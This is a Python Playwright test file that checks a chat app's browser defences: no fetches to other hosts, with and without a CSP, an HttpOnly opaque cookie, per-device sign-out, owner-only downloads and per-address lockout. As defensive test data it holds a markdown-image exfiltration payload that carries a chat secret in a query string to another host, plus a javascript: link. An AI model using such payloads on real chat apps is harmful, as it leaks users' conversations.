"""The browser boundary, in Chromium against the real app: rendered text reaches no other host
by itself (with and without the CSP), the sign-in cookie is HttpOnly and opaque, signed-in
devices are listed and can be signed out one by one, downloads go to their owner alone, and
an attacker guessing from one address cannot lock the owner out from another."""

from __future__ import annotations

import threading
import urllib.error
import urllib.request
from collections.abc import Iterator
from email.message import Message
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser.conftest import (
    PASSWORD,
    RunningApp,
    messages,
    open_app,
    screenshot,
    send,
    settle,
    sign_in,
    sign_up,
    stub_app,
    try_sign_in,
    wait_until_quiet,
)
from tests.support.forwarding_proxy import ForwardingProxy

# Records every page error and CSP violation the page sees, from its very first script.
WATCH_JS = """
window.__violations = [];
document.addEventListener('securitypolicyviolation',
  e => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI));
"""


class Recorder(ThreadingHTTPServer):
    """Another host, as far as the browser can tell (another port is another origin): it
    records each request it gets, so a test can prove that nothing reached it."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        recorder = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                recorder.paths.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.end_headers()

            def log_message(self, format: str, *args: object) -> None:
                pass

        super().__init__(("127.0.0.1", 0), Handler)

    @property
    def origin(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


@pytest.fixture(scope="module")
def other_host() -> Iterator[Recorder]:
    server = Recorder()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()


@pytest.fixture(scope="module")
def app_without_csp(
    tmp_path_factory: pytest.TempPathFactory, model_stub: str, cookie_key: str
) -> Iterator[RunningApp]:
    """The app with its CSP switched off, to test the text renderer as the only layer."""
    data_dir = tmp_path_factory.mktemp("no-csp")
    with stub_app(data_dir, model_stub, cookie_key, CONTENT_SECURITY_POLICY="off") as running:
        yield running


@pytest.fixture(scope="module")
def app_behind_a_proxy(
    tmp_path_factory: pytest.TempPathFactory, model_stub: str, cookie_key: str
) -> Iterator[RunningApp]:
    """The app trusting X-Forwarded-For from 127.0.0.1, as behind a reverse proxy there: the
    test's browsers stand in for the proxy, each saying which client it forwards."""
    data_dir = tmp_path_factory.mktemp("behind-a-proxy")
    with stub_app(data_dir, model_stub, cookie_key, FORWARDED_ALLOW_IPS="127.0.0.1") as running:
        yield running


def watched(page: Page) -> Page:
    page.add_init_script(WATCH_JS)
    return page


def violations(page: Page) -> list[str]:
    return page.evaluate("window.__violations || []")


def hostile_answer(other_host: Recorder) -> str:
    """A message whose echo is a classic exfiltration attempt, plus a link and a script link."""
    return (
        f"![chart]({other_host.origin}/p.png?d=secret-of-the-chat) "
        f"[docs]({other_host.origin}/docs) [click](javascript:alert(1))"
    )


def check_nothing_was_fetched(page: Page, app: RunningApp, other_host: Recorder) -> None:
    host = other_host.origin.removeprefix("http://")
    # The question and its echo: each shows the image as text naming the file and its host.
    expect(page.get_by_text(f'image "chart": p.png from {host}').first).to_be_visible()
    assert page.locator("[data-testid=stChatMessageContent] img").count() == 0
    # The chat's title (its first words) is a label: the URL in it is no link either.
    elsewhere = f"a[href^='http']:not([href^='{app.url}/'])"
    assert page.locator(f"h1 {elsewhere}, [data-testid=stSidebar] {elsewhere}").count() == 0
    links = page.locator("[data-testid=stChatMessageContent] a")
    hrefs = [links.nth(i).get_attribute("href") or "" for i in range(links.count())]
    assert hrefs, "the links should stay links"
    assert all(href.startswith(other_host.origin) for href in hrefs), hrefs
    for i in range(links.count()):
        assert links.nth(i).get_attribute("target") == "_blank"
        assert links.nth(i).get_attribute("rel") == "noopener noreferrer"
    # Each link shows where it goes; the script link is inert text.
    assert any(f"docs ({host})" in text for text in messages(page))
    assert any("click (javascript:alert(1))" in text for text in messages(page))
    # Reopening the chat draws it again from the database: still nothing fetched.
    page.reload()
    settle(page)
    expect(page.get_by_text(f'image "chart": p.png from {host}').first).to_be_visible()
    page.wait_for_timeout(500)
    assert other_host.paths == []


def test_a_markdown_image_in_an_answer_fetches_nothing_from_another_host(
    app: RunningApp, page: Page, other_host: Recorder
) -> None:
    watched(page)
    sign_up(page, app.url, "imgsam")
    send(page, hostile_answer(other_host))
    check_nothing_was_fetched(page, app, other_host)
    screenshot(page, "boundary-01-image-shown-as-text")
    assert violations(page) == [], violations(page)


def test_the_renderer_alone_fetches_nothing_with_the_csp_off(
    app_without_csp: RunningApp, page: Page, other_host: Recorder
) -> None:
    with urllib.request.urlopen(app_without_csp.url, timeout=10) as response:
        assert response.headers.get("Content-Security-Policy") is None
    sign_up(page, app_without_csp.url, "nocsp")
    send(page, hostile_answer(other_host))
    check_nothing_was_fetched(page, app_without_csp, other_host)


def test_the_csp_alone_blocks_an_image_from_another_host(
    app: RunningApp, page: Page, other_host: Recorder
) -> None:
    # As if the renderer had let an image through: the browser still must not fetch it.
    watched(page)
    open_app(page, app.url)
    page.evaluate(
        "src => { const img = document.createElement('img'); img.src = src;"
        " document.body.appendChild(img); }",
        f"{other_host.origin}/leak.png?d=secret",
    )
    page.wait_for_function("() => window.__violations.length > 0", timeout=10_000)
    assert any(v.startswith("img-src") for v in violations(page)), violations(page)
    assert other_host.paths == []


def test_the_sign_in_cookie_is_http_only_strict_and_opaque(app: RunningApp, page: Page) -> None:
    sign_up(page, app.url, "cookiecat")
    [cookie] = [c for c in page.context.cookies() if c["name"] == "chat_auth"]
    assert cookie["httpOnly"] and cookie["sameSite"] == "Strict" and cookie["path"] == "/"
    # 32 random bytes, base64url: no dots, so not a signed JWT that says who it is.
    assert len(cookie["value"]) >= 43 and "." not in cookie["value"]
    [browser_cookie] = [c for c in page.context.cookies() if c["name"] == "chat_auth_browser"]
    assert browser_cookie["httpOnly"]
    # No script in the page can read either of them.
    assert "chat_auth" not in page.evaluate("document.cookie")


def test_an_old_signed_cookie_is_refused_cleanly(app: RunningApp, browser: Browser) -> None:
    context = browser.new_context()
    try:
        page = context.new_page()
        # The format of earlier versions: a JWT {username, exp_date}, script-readable.
        old = "eyJhbGciOiJIUzI1NiJ9.eyJ1c2VybmFtZSI6ImFkYSIsImV4cF9kYXRlIjo5OTk5OTk5OTk5fQ.x"
        context.add_cookies([{"name": "chat_auth", "value": old, "url": app.url}])
        open_app(page, app.url)
        expect(page.get_by_role("tab", name="Sign in")).to_be_visible()
        assert page.get_by_test_id("stException").count() == 0
        assert page.get_by_test_id("stChatInputTextArea").count() == 0
    finally:
        context.close()


def test_the_account_page_lists_each_device_and_signs_one_out(
    app: RunningApp, browser: Browser
) -> None:
    laptop_context, phone_context = browser.new_context(), browser.new_context()
    try:
        laptop, phone = laptop_context.new_page(), phone_context.new_page()
        sign_up(laptop, app.url, "devi")
        sign_in(phone, app.url, "devi")
        open_app(laptop, f"{app.url}/account")
        rows = laptop.get_by_text("on Linux", exact=False)
        expect(rows).to_have_count(2)
        expect(laptop.get_by_text("this device", exact=False)).to_have_count(1)
        screenshot(laptop, "boundary-02-devices")
        # The row without "this device" is the phone's: sign it out from the laptop.
        rows = laptop.get_by_test_id("stHorizontalBlock").filter(has_text="last seen")
        expect(rows).to_have_count(2)
        rows.filter(has_not_text="this device").get_by_role("button", name="Sign out").click()
        settle(laptop)
        expect(laptop.get_by_text("on Linux", exact=False)).to_have_count(1)
        phone.reload()
        settle(phone)
        expect(phone.get_by_role("tab", name="Sign in")).to_be_visible()
        laptop.reload()
        settle(laptop)
        expect(laptop.get_by_test_id("stHeading").filter(has_text="Account")).to_be_visible()
    finally:
        laptop_context.close()
        phone_context.close()


def _get(url: str, cookie: str | None = None) -> tuple[int, Message, str]:
    """GET `url` as a client holding only `cookie`: status, headers, body."""
    request = urllib.request.Request(url, headers={"Cookie": cookie} if cookie else {})
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            return response.status, response.headers, response.read().decode()
    except urllib.error.HTTPError as error:
        return error.code, error.headers, error.read().decode()


def test_a_download_is_served_to_its_owner_alone(app: RunningApp, browser: Browser) -> None:
    owner, other = browser.new_context(), browser.new_context()
    try:
        page = owner.new_page()
        sign_up(page, app.url, "exporter")
        send(page, "the owner's private words")
        open_app(page, f"{app.url}/my_data")
        # No export sits at a shared /media/ URL any more: the buttons lead to the app's route.
        expect(page.get_by_role("link", name="All chats as JSON (re-importable)")).to_be_visible()
        assert page.locator("a[href*='/media/']").count() == 0
        token = next(c["value"] for c in owner.cookies() if c["name"] == "chat_auth")

        status, headers, body = _get(f"{app.url}/files/my-chats.json", f"chat_auth={token}")
        assert status == 200 and "the owner's private words" in body
        assert headers["Cache-Control"] == "no-store"
        assert headers["Content-Disposition"].startswith("attachment")
        status, _, body = _get(f"{app.url}/files/my-chats.md", f"chat_auth={token}")
        assert status == 200 and "the owner's private words" in body

        for cookie in (None, "chat_auth=not-a-sign-in", "chat_auth_browser=x"):
            status, headers, body = _get(f"{app.url}/files/my-chats.json", cookie)
            assert status == 403 and "private" not in body
            assert headers["Cache-Control"] == "no-store"
        # Another user's sign-in gets that user's chats, never the owner's.
        other_page = other.new_page()
        sign_up(other_page, app.url, "snooper")
        theirs = next(c["value"] for c in other.cookies() if c["name"] == "chat_auth")
        status, _, body = _get(f"{app.url}/files/my-chats.json", f"chat_auth={theirs}")
        assert status == 200 and "private words" not in body
        # Not an administrator: the audit log is refused.
        status, _, _ = _get(f"{app.url}/files/audit-log.csv", f"chat_auth={theirs}")
        assert status == 403
    finally:
        owner.close()
        other.close()


def test_a_guesser_from_one_address_cannot_lock_the_owner_out(
    app_behind_a_proxy: RunningApp, browser: Browser
) -> None:
    # Each client through its own proxy, which names the client's address to the app.
    app_port = urlsplit(app_behind_a_proxy.url).port
    assert app_port is not None
    owner_proxy = ForwardingProxy(app_port, "198.51.100.7").start()
    attacker_proxy = ForwardingProxy(app_port, "203.0.113.9").start()
    url = owner_proxy.url
    owner_context = browser.new_context()
    attacker_context = browser.new_context()
    try:
        owner = owner_context.new_page()
        sign_up(owner, url, "alice")
        owner_context.clear_cookies()

        attacker = attacker_context.new_page()
        open_app(attacker, attacker_proxy.url)
        wait_until_quiet(attacker, 1.0)
        for _ in range(5):
            try_sign_in(attacker, "alice", "wrong guess")
        expect(attacker.get_by_text("Too many failed sign-ins")).to_be_visible()
        # Even the right password is refused from there while the lock lasts.
        try_sign_in(attacker, "alice", PASSWORD)
        expect(attacker.get_by_text("Too many failed sign-ins")).to_be_visible()
        assert attacker.get_by_test_id("stChatInputTextArea").count() == 0

        # The owner, from another address, signs in.
        sign_in(owner, url, "alice")
        expect(owner.get_by_test_id("stChatInputTextArea")).to_be_visible()
        # And the attacker's guesses stay capped.
        try_sign_in(attacker, "alice", PASSWORD)
        expect(attacker.get_by_text("Too many failed sign-ins")).to_be_visible()
        assert attacker.get_by_test_id("stChatInputTextArea").count() == 0
    finally:
        owner_context.close()
        attacker_context.close()
        owner_proxy.close()
        attacker_proxy.close()
